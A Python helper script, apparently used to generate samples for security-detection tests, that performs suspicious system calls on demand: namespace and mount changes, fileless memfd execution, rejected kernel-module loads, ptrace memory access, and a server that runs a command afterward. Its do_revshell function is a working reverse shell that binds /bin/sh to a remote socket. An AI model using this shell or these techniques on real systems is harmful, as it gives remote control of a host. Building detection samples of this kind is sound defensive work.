#!/usr/bin/env python3
"""samples/sk_act.py -- the raw system calls the record-*.sh scripts act out
where no ordinary command does them safely (or at all as a non-root user
with capabilities): mount(2), setns(2), memfd execution, module loading
with a bogus image, ptrace attach and a same-value poke, a reverse shell,
an outbound connect, a fake server. Each action prints one line saying what
the call returned, so a recording script's output shows what happened.

Nothing here changes the host for good: the module images are not modules
(the kernel refuses them), the poke writes back the word it read, mounts
are made in the caller's private mount namespace."""
import ctypes
import os
import socket
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

NR_INIT_MODULE = 175
NR_FINIT_MODULE = 313
PTRACE_PEEKDATA = 2
PTRACE_POKEDATA = 5
PTRACE_ATTACH = 16
PTRACE_DETACH = 17
MOUNT_FLAGS = {"rdonly": 1, "bind": 4096, "rec": 16384, "private": 1 << 18}


def report(what, res):
    err = ctypes.get_errno() if res < 0 else 0
    print("%s: %s" % (what, "ok" if res >= 0 else os.strerror(err)), flush=True)


def do_mount(src, dst, fstype, flags):
    bits = 0
    for f in filter(None, flags.split(",")):
        bits |= MOUNT_FLAGS[f]
    res = libc.mount(src.encode(), dst.encode(), fstype.encode() or None, bits, None)
    report("mount %s %s %s" % (src, dst, fstype or "-"), res)


def do_setns(pid, *kinds):
    for k in kinds:
        fd = os.open("/proc/%s/ns/%s" % (pid, k), os.O_RDONLY)
        report("setns %s of %s" % (k, pid), libc.setns(fd, 0))
        os.close(fd)


def do_memfd_exec():
    fd = os.memfd_create("payload", 0)
    with open("/usr/bin/id", "rb") as f:
        os.write(fd, f.read())
    # through the /proc link, then as fexecve(3) does it
    for how in ("path", "fd"):
        pid = os.fork()
        if pid == 0:
            if how == "path":
                os.execv("/proc/self/fd/%d" % fd, ["payload", "-u"])
            os.execve(fd, ["payload", "-g"], {})
        os.waitpid(pid, 0)


def do_modload(path):
    fd = os.open(path, os.O_RDONLY)
    report("finit_module %s" % path, libc.syscall(NR_FINIT_MODULE, fd, b"", 0))
    os.close(fd)
    img = b"not a kernel module\n" * 8
    report("init_module", libc.syscall(NR_INIT_MODULE, img, len(img), b""))


def do_ptrace(pid):
    pid = int(pid)
    libc.ptrace.restype = ctypes.c_long
    report("ptrace attach %d" % pid, libc.ptrace(PTRACE_ATTACH, pid, None, None))
    os.waitpid(pid, 0)
    with open("/proc/%d/maps" % pid) as m:
        addr = int(m.readline().split("-")[0], 16)
    ctypes.set_errno(0)
    word = libc.ptrace(PTRACE_PEEKDATA, pid, ctypes.c_void_p(addr), None)
    report("ptrace peek", 0 if ctypes.get_errno() == 0 else -1)
    report("ptrace poke (same word)",
           libc.ptrace(PTRACE_POKEDATA, pid, ctypes.c_void_p(addr), ctypes.c_void_p(word)))
    report("ptrace detach", libc.ptrace(PTRACE_DETACH, pid, None, None))


def do_revshell(host, port):
    s = socket.create_connection((host, int(port)))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.execv("/bin/sh", ["sh", "-i"])


def do_connect(host, port):
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect((host, int(port)))
        print("connect %s:%s: ok" % (host, port), flush=True)
    except OSError as e:
        print("connect %s:%s: %s" % (host, port, e.strerror), flush=True)
    s.close()


def do_serve(portfile, *cmd):
    """A one-request server: answers the first client, then runs cmd
    (as a web shell would) and, with 'pty' first, in a pseudo-terminal."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(1)
    with open(portfile, "w") as f:
        f.write("%d\n" % s.getsockname()[1])
    s.settimeout(20)
    c, _ = s.accept()
    c.recv(256)
    c.sendall(b"HTTP/1.0 200 OK\r\n\r\nhello\n")
    c.close()
    if cmd and cmd[0] == "pty":
        import pty
        pid, master = pty.fork()
        if pid == 0:
            os.execv("/bin/sh", ["sh", "-i", "-c", cmd[1]])
        try:
            while os.read(master, 1024):
                pass
        except OSError:
            pass
        os.waitpid(pid, 0)
    elif cmd:
        os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", cmd[0]])


ACTIONS = {"mount": do_mount, "setns": do_setns, "memfd-exec": do_memfd_exec,
           "modload": do_modload, "ptrace": do_ptrace, "revshell": do_revshell,
           "connect": do_connect, "serve": do_serve}

if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in ACTIONS:
        sys.exit("usage: sk_act.py %s ARGS..." % "|".join(sorted(ACTIONS)))
    ACTIONS[sys.argv[1]](*sys.argv[2:])
